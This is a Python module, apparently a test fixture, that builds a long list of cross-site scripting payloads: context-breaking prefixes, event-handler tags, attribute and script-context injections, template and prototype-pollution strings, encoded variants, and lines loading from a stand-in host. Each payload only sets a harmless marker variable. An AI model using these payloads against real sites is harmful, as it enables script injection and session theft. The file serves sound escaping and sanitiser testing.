"""Texts that would run as script wherever one of them stands in a page unescaped; each says so in `window.__x`."""

RUN = "window.__x=1"
BREAKS = (
    "",
    '">',
    "'>",
    "</script>",
    "</textarea>",
    "</title>",
    "</style>",
    "</template>",
    "-->",
    "]]>",
    "</option></select>",
)
TAGS = (
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'>",
    f"<video><source onerror={RUN}></video>",
    f"<a href=javascript:{RUN}>x</a>",
    f"<form action=javascript:{RUN}><button>",
    f"<math><mi xlink:href=javascript:{RUN}>",
    f"<object data=javascript:{RUN}>",
    "<base href=//elders.example/>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    f"<style>@import 'javascript:{RUN}'</style>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x></svg>",
    f"<marquee onstart={RUN}>",
    f"<audio src=x onerror={RUN}>",
    f"<SCRIPT>{RUN}</SCRIPT>",
    f"<scr<script>ipt>{RUN}</script>",
    f"<img/src=x/onerror={RUN}>",
    f"<img src=x onerror\n=\n{RUN}>",
    f"<img src=x oNeRrOr={RUN}>",
    f"<<script>{RUN}//<</script>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<p style='x:expression({RUN})'>",
    f"<template><script>{RUN}</script></template>",
    f"<x contenteditable autofocus onfocus={RUN}>",
    f"<button popovertarget=x>y</button><p popover id=x onbeforetoggle={RUN}>",
    f"<div hx-get=/ hx-trigger=load hx-on:load={RUN}>",
    f"<div data-controller=w-action data-action=load->{RUN}>",
)
ATTRIBUTES = (
    f'" autofocus onfocus={RUN} x="',
    f"' autofocus onfocus={RUN} x='",
    f"x onmouseover={RUN}",
    f'" onerror="{RUN}" src="x',
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"data:text/html,<script>parent.{RUN}</script>",
    f"vbscript:{RUN}",
    "//elders.example/x.js",
)
SCRIPTS = (
    f"';{RUN};//",
    f'";{RUN};//',
    f"\\';{RUN};//",
    f"`${{{RUN}}}`",
    f"${{{RUN}}}",
    "{{constructor.constructor('window.__x=1')()}}",
    f"</script><script>{RUN}//",
    f"<!--<script>{RUN}-->",
    f"\u2028{RUN}\u2028",
    f'{{"__proto__": {{"innerHTML": "<img src=x onerror={RUN}>"}}}}',
)
ENCODED = (
    f"&lt;img src=x onerror={RUN}&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"\\x3cimg src=x onerror={RUN}\\x3e",
    f"＜script＞{RUN}＜/script＞",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"&lt;&#x2F;script&gt;&lt;script&gt;{RUN}&lt;/script&gt;",
)
PAYLOADS = tuple(
    dict.fromkeys(
        (
            *(f"{BREAKS[n % len(BREAKS)]}{tag}" for n, tag in enumerate(TAGS)),
            *(f"{start}<img src=x onerror={RUN}>" for start in BREAKS[1:]),
            *ATTRIBUTES,
            *SCRIPTS,
            *ENCODED,
        )
    )
)
# A path may hold all of it, and passes as an address.
ADDRESS = f'https://elders.example/"><svg/onload={RUN}>'
